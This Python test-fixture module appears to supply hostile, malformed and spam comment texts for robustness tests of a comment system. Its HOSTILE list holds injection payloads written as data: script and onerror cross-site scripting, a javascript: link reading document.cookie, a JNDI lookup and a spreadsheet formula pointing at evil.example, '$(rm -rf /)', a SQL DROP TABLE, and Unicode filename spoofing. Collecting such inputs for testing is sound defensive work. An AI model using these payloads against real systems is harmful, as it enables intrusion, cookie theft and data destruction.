"""What must not break anything: hostile and strange texts, spam, copies and near-copies."""

from __future__ import annotations

_MARKS = "\u0335\u0321\u0344\u0351\u0317\u0323"
_ZALGO = "".join(char + _MARKS[: 2 + at % 5] for at, char in enumerate("the fog is coming"))

HOSTILE: tuple[str, ...] = (
    "<script>alert('foghorn')</script> did it work",
    "<img src=x onerror=alert(1)> </textarea></script><b>bold of you",
    "[click me](javascript:alert(document.cookie)) javascript:alert(1)",
    "# Not a heading\n\n- not\n- a list\n\n> not a quote\n\n```\nnot code\n```\n| a | b |\n|---|---|\n![x](http://tracker.example/x.png)",
    "*bold* _italic_ -struck- **two stars** and a lone * star",
    "[bold red]rich markup[/bold red] [link=https://evil.example]here[/link] [/]",
    "\x1b[31mred?\x1b[0m \x1b]0;title\x07 \x1b[2J gone",
    "safe\u202egnp.exe\u202c and \u2066isolated\u2069 and \u200fmarked",
    _ZALGO,
    "null\u0000byte and a bell \u0007 and a tab\there",
    "ten thousand characters of fog: " + "fog and more fog, " * 560 + "the end",
    "👩‍🚀👨‍👩‍👧‍👦🏳️‍🌈🧑🏿‍🤝‍🧑🏻 family of clusters 🇯🇵🇧🇷 and a lone \u200d joiner",
    "مرحبا 1:17 يا بحر https://odalysquill.example/ar #ميناء hello שלום",
    "{{ template }} ${jndi:ldap://evil.example/a} %s %n {0} $(rm -rf /) `id` '; DROP TABLE comments; --",
    '=HYPERLINK("http://evil.example","totals") +1 -1 @SUM(A1)',
    "line\r\nfeeds\u2028and\u2029separators\u0085everywhere\n\n\n\n\nend",
    "&lt;b&gt; &amp; &#x1F30A; entities that are already entities",
    "quotes \" ' “ ” « » \\ backslash \\n not a newline \\u0000 not a null",
    "",
    " ",
    "25:61 is no time, 0:59 is, 9:99 is not, 4:08 lies behind the end, 3:59 does not",
    "email me: fog@harbour.example, or see www.harbour.example or ftp://old.example/x",
    "https://odalysquill.example/a_(b)?q=1&amp=2#frag, (https://odalysquill.example/glass).",
    "ﬁ ligature, ｆｕｌｌｗｉｄｔｈ, e\u0301 combined and é composed, Ω Ω, 𝕗𝕠𝕘 𝔽𝕆𝔾, İstanbul ẞ",
)
"""Each of them is the whole text of one top comment."""

SPAM: tuple[str, ...] = (
    "Check my channel, I make songs like this but better 🔥🔥",
    "check MY channel i make songs like this but better!!",
    "Check my channel, l make songs like this but better 🔥",
    "I turned $300 into $12,450 in one week with Mrs Harborline on Whats🅰pp ➕1 555 0100 💰",
    "I turned $300 into $11,980 in a week thanks to Mrs. Harborline, Whatsapp +1 555 0100 💰💰",
    "Free tour tickets here 👉 https://glass-harbour-tickets.example/win 👈 only today",
    "Free tour tickets here 👉 https://glass-harbour-tickets.example/w1n 👈 only today",
    "Sub to me and I sub back, always active 💯",
    "CONGRATULATIONS you are our winner, text me on Tele-gram @ quill_prizes",
    "who is watching this in 2026? like if you are",
    "Who is watching this in 2026? Like if you are",
)
